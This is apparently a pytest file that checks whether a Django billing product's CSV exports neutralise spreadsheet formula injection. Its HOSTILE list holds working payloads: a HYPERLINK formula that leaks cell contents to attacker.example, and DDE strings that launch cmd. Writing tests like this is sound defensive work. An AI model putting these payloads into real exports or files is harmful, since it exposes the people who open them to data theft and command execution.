"""Every CSV the product writes, with hostile text in every free-text column: read back with Python's
csv reader, no cell starts with a character a spreadsheet would evaluate unless it is a number, and
the hostile text is still there (after the apostrophe that keeps it text)."""

from __future__ import annotations

import csv
import io
import uuid
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse

from billing import services as billing_services
from config.kernel.exports import FORMULA_STARTS, safe_cell
from credits import services as credit_services
from tests.world import SYSTEM

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    "+Promo",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.strip() == text


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), f"{cell!r} would be evaluated"


def read(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text, newline="")))


def download(client: Client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, response
    return read(b"".join(response.streaming_content))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+Promo", "'+Promo"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("1e5", "1e5"),
        ("-1e5+cmd", "'-1e5+cmd"),
        ("a=1", "a=1"),
        (-500, -500),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
        ("", ""),
    ],
)
def test_safe_cell_neutralises_formulas_and_keeps_numbers(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def root(db):
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("root", "root@example.com", "unused"))
    return client


def test_every_admin_export_neutralises_every_free_text_column(root, account, make_api, make_coupon):
    api = make_api(account)
    created = api.post(
        "/customers/customers", {"first_name": HOSTILE[0], "last_name": HOSTILE[1], "email": "x@example.com"}
    )
    assert created.status_code in (200, 201), created.content
    from customers.models import Customer

    customer = Customer.objects.get(account=account)
    coupon = make_coupon(account, name=HOSTILE[2], kind="monetary", value=1000, currency="NOK", offering="")
    used = credit_services.credit_issue(customer=customer, coupon=coupon, actor=SYSTEM, source="api")
    credit_services.credit_redeem(
        account=account, customer_id=customer.pk, credit_id=used.pk, reference=HOSTILE[3], note=HOSTILE[4], actor=SYSTEM
    )
    revoked = credit_services.credit_issue(customer=customer, coupon=coupon, actor=SYSTEM, source="api")
    credit_services.credit_revoke(
        account=account, customer_id=customer.pk, credit_id=revoked.pk, reason=HOSTILE[5], actor=SYSTEM
    )
    wallet = billing_services.billing_account_create(account=account, org_id=customer.pk, actor=SYSTEM)
    billing_services.billing_top_up(
        account=account, billing_account_id=wallet.pk, usage_id=uuid.uuid4(), amount=5, description=HOSTILE[0],
        source=HOSTILE[1], actor=SYSTEM,
    )  # fmt: skip

    exports = {
        "credits": download(root, reverse("admin:credits_customercredit_export")),
        "uses": download(root, reverse("admin:credits_customercredit_uses_export", args=[used.pk])),
        "liability": download(root, reverse("admin:liability_report") + f"?account={account.pk}&format=csv"),
        "billing": download(root, reverse("admin:billing_billingaccount_transactions_export", args=[wallet.pk])),
    }
    for rows in exports.values():
        assert_inert(rows)
    cells = {name: {cell for row in rows for cell in row} for name, rows in exports.items()}
    assert {"'" + HOSTILE[2], "'" + HOSTILE[5]} <= cells["credits"]
    assert any(c.startswith("'" + HOSTILE[0]) for c in cells["credits"])  # the customer's full name
    assert {"'" + HOSTILE[3], "'" + HOSTILE[4]} <= cells["uses"]
    assert "'" + HOSTILE[2] in cells["liability"]
    assert {"'" + HOSTILE[0], "'" + HOSTILE[1]} <= cells["billing"]


def test_grant_report_neutralises_identifiers_and_reasons(account, coupon, tmp_path):
    source = tmp_path / "in.csv"
    with source.open("w", newline="") as handle:
        csv.writer(handle).writerows([["email"], *([value] for value in HOSTILE[:4])])
    report = tmp_path / "report.csv"
    with pytest.raises(CommandError):
        call_command(
            "grant_credits", account.pk, "--coupon", str(coupon.pk), "--customers", str(source), "--report", str(report),
            stdout=io.StringIO(),
        )  # fmt: skip
    rows = read(report.read_text())
    assert_inert(rows)
    assert len(rows) == 5 and {row[1] for row in rows[1:]} == {"'" + value for value in HOSTILE[:4]}
